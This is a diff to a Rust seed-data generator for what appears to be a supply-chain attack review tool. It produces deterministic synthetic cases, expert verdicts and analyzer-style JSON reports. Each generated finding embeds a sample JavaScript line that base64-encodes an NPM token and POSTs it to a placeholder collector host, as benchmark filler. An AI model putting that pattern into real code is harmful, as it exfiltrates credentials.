@@ -3,9 +3,14 @@
 //! Generates a plausible instance: language subgroups, experts in two subgroups each (some with
 //! organization affiliations, so conflict exclusion has work to do), projects spread over
 //! owner organizations, and cases with a realistic status mix — mostly published, a few percent
-//! waiting in experts' queues. Assessments are embedded in their case documents *and* written to
-//! the `assessments` projection, exactly as a real save would. Everything is deterministic in
-//! the case index, so two runs produce the same shape.
+//! waiting in experts' queues. Each case carries an automated report shaped like the analyzer's
+//! (findings with evidence and explanations, 1–3 KB of JSON, so table scans read realistically
+//! sized rows) from a mix of noisy detectors that fire on any change and telling ones that
+//! fire mostly on changes experts later call hostile; verdicts are mostly benign; the
+//! maintainer's suspicion leans towards the verdict. Assessments are spread evenly over the
+//! cases, embedded in their case documents *and* written to the `assessments` projection,
+//! exactly as a real save would. Everything is deterministic in the case index (a fixed hash,
+//! no random generator), so two runs produce the same data.
 //!
 //! Rows are inserted with multi-row `INSERT … VALUES` statements in large transactions on both
 //! backends. Seeded cases are not written to the transparency log: they are benchmark data, not
@@ -30,7 +35,8 @@ use crate::StoreError;
 pub struct SeedSpec {
     /// Cases to create.
     pub cases: u64,
-    /// Assessments to create (one each on the first `assessments` cases, capped at `cases`).
+    /// Assessments to create (one each on `assessments` cases spread evenly over all of them,
+    /// capped at `cases`).
     pub assessments: u64,
     /// Projects to spread the cases over.
     pub projects: u64,
@@ -173,7 +179,7 @@ pub fn case(spec: &SeedSpec, i: u64) -> Result<Case, StoreError> {
         subgroups.push(SubgroupId(seed_id(3, (i + 5) % langs.len() as u64)));
     }
     let published = status == CaseStatus::Published;
-    let verdict = Verdict::ALL[(i % Verdict::ALL.len() as u64) as usize];
+    let verdict = verdict(i);
     let mut case = Case {
         id: CaseId(seed_id(5, i)),
         project_id: ProjectId(seed_id(4, i % spec.projects.max(1))),
@@ -193,7 +199,7 @@ pub fn case(spec: &SeedSpec, i: u64) -> Result<Case, StoreError> {
         previous_revisions: Vec::new(),
         concern: Concern {
             text: "looks dodgy".into(),
-            suspicion: SuspicionLevel::new(1 + (i % 5) as u8).map_err(invalid)?,
+            suspicion: SuspicionLevel::new(suspicion(i, verdict)).map_err(invalid)?,
             tags: vec![lang.as_str().to_string(), vector.as_str().to_string()],
         },
         report: Some(report(i, verdict)?),
@@ -216,10 +222,10 @@ pub fn case(spec: &SeedSpec, i: u64) -> Result<Case, StoreError> {
         received_at,
         first_claimed_at: None,
         first_assessed_at: None,
-        published_at: published.then(|| received_at + Duration::days(3)),
+        published_at: published.then(|| received_at + publication_delay(i)),
         updated_at: received_at,
     };
-    if i < spec.assessments {
+    if assessed(spec, i) {
         let at = first_assessment_delay(i).map_or(received_at, |d| received_at + d);
         case.assessments.push(Assessment {
             id: AssessmentId(seed_id(6, i)),
@@ -248,42 +254,179 @@ pub fn case(spec: &SeedSpec, i: u64) -> Result<Case, StoreError> {
     Ok(case)
 }
 
-/// Detectors the seeded reports name. The first four fire mostly on cases experts later call
-/// malicious or suspicious, the others on any case, so per-detector precision differs.
-pub const SEED_DETECTORS: [&str; 8] = [
-    "decode-exec",
-    "gha-pr-target-checkout",
-    "dep-typosquat",
-    "unicode-bidi-control",
-    "dep-new-dependency",
-    "gha-unpinned-action",
-    "encoded-blob",
-    "test-skip-added",
+/// A fixed 64-bit mix of the case index and a salt (splitmix64's finaliser): the seed's only
+/// source of variety, so every run generates the same data.
+pub fn mix(i: u64, salt: u64) -> u64 {
+    let mut z = i
+        .wrapping_mul(0x9E37_79B9_7F4A_7C15)
+        .wrapping_add(salt.wrapping_mul(0xD1B5_4A32_D192_ED03));
+    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+    z ^ (z >> 31)
+}
+
+/// Per mille, from the mix: `true` with probability `per_mille / 1000`.
+fn chance(i: u64, salt: u64, per_mille: u64) -> bool {
+    mix(i, salt) % 1000 < per_mille
+}
+
+/// The expert verdict seeded case `i` gets (if assessed): 50 % benign, 12 % inconclusive,
+/// 25 % suspicious, 13 % malicious.
+pub fn verdict(i: u64) -> Verdict {
+    match mix(i, 1) % 100 {
+        0..=49 => Verdict::Benign,
+        50..=61 => Verdict::Inconclusive,
+        62..=86 => Verdict::Suspicious,
+        _ => Verdict::Malicious,
+    }
+}
+
+/// The maintainer's suspicion (1–5): spread over the scale, one level higher on changes the
+/// experts later find hostile and one lower on benign ones.
+pub fn suspicion(i: u64, verdict: Verdict) -> u8 {
+    let base = 1 + (mix(i, 2) % 5) as u8;
+    match verdict {
+        Verdict::Malicious | Verdict::Suspicious => (base + 1).min(5),
+        Verdict::Benign => base.saturating_sub(1).max(1),
+        Verdict::Inconclusive => base,
+    }
+}
+
+/// Whether seeded case `i` has an expert assessment: `spec.assessments` of the `spec.cases`,
+/// spread evenly.
+pub fn assessed(spec: &SeedSpec, i: u64) -> bool {
+    let (a, n) = (
+        u128::from(spec.assessments.min(spec.cases)),
+        u128::from(spec.cases.max(1)),
+    );
+    let i = u128::from(i);
+    (i + 1) * a / n > i * a / n
+}
+
+/// How long after receipt a published seeded case was published: three days plus 0–23 hours.
+pub fn publication_delay(i: u64) -> Duration {
+    Duration::days(3) + Duration::hours(((i * 13) % 24) as i64)
+}
+
+/// Detectors that fire on any kind of change, with their rate per mille of cases.
+pub const NOISY_DETECTORS: [(&str, u64); 10] = [
+    ("dep-new-dependency", 300),
+    ("gha-unpinned-action", 180),
+    ("new-author-sensitive-files", 150),
+    ("encoded-blob", 120),
+    ("generated-file-edited", 100),
+    ("dep-lockfile-only", 80),
+    ("test-skip-added", 60),
+    ("line-too-long-to-review", 50),
+    ("binary-opaque-blob", 40),
+    ("gha-permissions-broadened", 40),
 ];
 
-/// The automated report of seeded case `i` whose (later) verdict is `verdict`: one or two
-/// broad detectors always, plus a telling one on most hostile cases.
+/// Detectors that fire mostly on hostile changes: rate per mille on cases experts call
+/// malicious or suspicious, and on the others.
+pub const TELLING_DETECTORS: [(&str, u64, u64); 14] = [
+    ("behaviour-chain", 150, 10),
+    ("decode-exec", 120, 5),
+    ("npm-lifecycle-script", 120, 30),
+    ("obfuscated-code", 90, 15),
+    ("exfil-service-endpoint", 80, 5),
+    ("build-script-fetch", 70, 20),
+    ("gha-pr-target-checkout", 60, 10),
+    ("dep-typosquat", 60, 10),
+    ("python-install-hook", 60, 10),
+    ("ip-literal-endpoint", 50, 10),
+    ("gha-secrets-exposure", 40, 5),
+    ("tls-verification-disabled", 30, 25),
+    ("unicode-bidi-control", 30, 2),
+    ("triggered-destruction", 10, 1),
+];
+
+/// What an explanation in the seeded reports reads like (the analyzer writes a paragraph).
+const EXPLANATION: &str = "The change adds code that matches a pattern seen in real supply-chain \
+    attacks. On its own this can be harmless, but together with the other findings of this change it \
+    deserves a careful look: check where the data comes from, where it goes, and whether the \
+    pull request's description explains why the project needs it. Synthetic text generated by \
+    s-express admin seed.";
+
+/// The automated report of seeded case `i` whose (later) verdict is `verdict`: noisy
+/// detectors at their base rates, telling ones mostly on hostile cases, at least one finding.
+/// `full` is shaped like the analyzer's JSON report (`docs/report-schema.md`).
 pub fn report(i: u64, verdict: Verdict) -> Result<sx_domain::AutomatedReport, StoreError> {
     let invalid = |e: sx_domain::ValidationError| StoreError::Invalid(format!("seed data: {e}"));
-    let mut finding_ids = vec![SEED_DETECTORS[4 + (i % 4) as usize].to_string()];
-    if i.is_multiple_of(7) {
-        finding_ids.push(SEED_DETECTORS[4 + ((i / 7) % 4) as usize].to_string());
-    }
     let hostile = matches!(verdict, Verdict::Malicious | Verdict::Suspicious);
-    if (hostile && !i.is_multiple_of(5)) || i.is_multiple_of(11) {
-        finding_ids.push(SEED_DETECTORS[((i / 3) % 4) as usize].to_string());
+    let mut finding_ids: Vec<String> = Vec::new();
+    for (k, (id, rate)) in NOISY_DETECTORS.iter().enumerate() {
+        if chance(i, 100 + k as u64, *rate) {
+            finding_ids.push((*id).to_string());
+        }
+    }
+    for (k, (id, on_hostile, otherwise)) in TELLING_DETECTORS.iter().enumerate() {
+        if chance(
+            i,
+            200 + k as u64,
+            if hostile { *on_hostile } else { *otherwise },
+        ) {
+            finding_ids.push((*id).to_string());
+        }
+    }
+    if finding_ids.is_empty() {
+        finding_ids.push(
+            NOISY_DETECTORS[(i % NOISY_DETECTORS.len() as u64) as usize]
+                .0
+                .to_string(),
+        );
     }
     let (risk, band) = if hostile {
         (0.9, sx_domain::RiskBand::High)
     } else {
         (0.2, sx_domain::RiskBand::Low)
     };
+    let findings: Vec<serde_json::Value> = finding_ids
+        .iter()
+        .enumerate()
+        .map(|(k, id)| {
+            let k64 = k as u64;
+            let severity = ["low", "medium", "high", "critical"][(mix(i, 300 + k64) % 4) as usize];
+            let confidence = ["low", "medium", "high"][(mix(i, 400 + k64) % 3) as usize];
+            serde_json::json!({
+                "id": id,
+                "title": format!("Synthetic finding of {id}"),
+                "severity": severity,
+                "confidence": confidence,
+                "path": format!("src/module_{}/file_{}.js", mix(i, 500) % 40, k),
+                "line": 1 + mix(i, 600 + k as u64) % 400,
+                "column": 1 + mix(i, 700 + k as u64) % 80,
+                "evidence": format!(
+                    "const payload{k} = Buffer.from(process.env.NPM_TOKEN_{i}, 'utf8').toString('base64'); \
+                     https.request({{ hostname: 'collector-{}.example.invalid', method: 'POST' }})",
+                    mix(i, 800) % 1000
+                ),
+                "explanation": EXPLANATION,
+                "tags": ["payload", "exfiltration"],
+                "doc": format!("docs/detectors/{id}.md"),
+                "fingerprint": format!("{:016x}{:016x}{:016x}{:016x}", mix(i, 900 + k as u64), mix(i, 901), mix(i, 902), mix(i, 903)),
+                "score": 1.5 + (mix(i, 1000 + k as u64) % 40) as f64 / 10.0,
+            })
+        })
+        .collect();
+    let full = serde_json::json!({
+        "schema_version": 1,
+        "analyzer": { "name": "s-express", "version": "0.1.0", "model_version": 1, "detectors": 59 },
+        "risk": {
+            "probability": risk,
+            "band": band.as_str(),
+            "logit": if hostile { 2.2 } else { -1.4 },
+            "contributions": finding_ids.iter().map(|d| serde_json::json!({ "detector": d, "value": 1.0 })).collect::<Vec<_>>(),
+        },
+        "findings": findings,
+        "summary": { "files": 1 + i % 12, "added_lines": 5 + i % 400, "removed_lines": i % 90, "binary_files": 0, "commits": 1 + i % 4 },
+    });
     Ok(sx_domain::AutomatedReport {
         risk: sx_domain::RiskProbability::new(risk).map_err(invalid)?,
         band,
         finding_ids,
         tags: Vec::new(),
-        full: serde_json::json!({}),
+        full,
     })
 }
 
@@ -511,6 +654,46 @@ mod tests {
         assert_eq!(open, 80);
         assert_eq!(published, 900);
         assert_eq!(assessed, 200);
+    }
+
+    #[test]
+    fn seeded_verdicts_findings_and_documents_look_like_a_real_instance() {
+        let spec = SeedSpec::new(10_000, 8_500);
+        let mut benign = 0;
+        let mut tally = sx_domain::DetectorTally::default();
+        let mut doc_bytes = 0;
+        for i in 0..spec.cases {
+            let c = case(&spec, i).unwrap();
+            let v = c.effective_verdict().map(|e| e.verdict);
+            benign += usize::from(v == Some(Verdict::Benign));
+            let report = c.report.as_ref().unwrap();
+            assert!(!report.finding_ids.is_empty());
+            tally.add(report.finding_ids.iter().map(String::as_str), v);
+            doc_bytes += serde_json::to_vec(&c).unwrap().len();
+        }
+        // Half of the assessed cases are benign (8,500 assessed).
+        assert!((3_800..4_700).contains(&benign), "{benign}");
+        let records = tally.into_records();
+        let precision = |id: &str| {
+            records
+                .iter()
+                .find(|r| r.detector == id)
+                .unwrap()
+                .precision()
+                .unwrap()
+        };
+        assert!(
+            precision("decode-exec") > 0.9,
+            "{}",
+            precision("decode-exec")
+        );
+        assert!((0.3..0.5).contains(&precision("dep-new-dependency")));
+        assert!(records.len() >= 20, "{}", records.len());
+        let mean = doc_bytes / spec.cases as usize;
+        assert!(
+            (1_000..4_000).contains(&mean),
+            "mean case document {mean} bytes"
+        );
     }
 
     #[test]
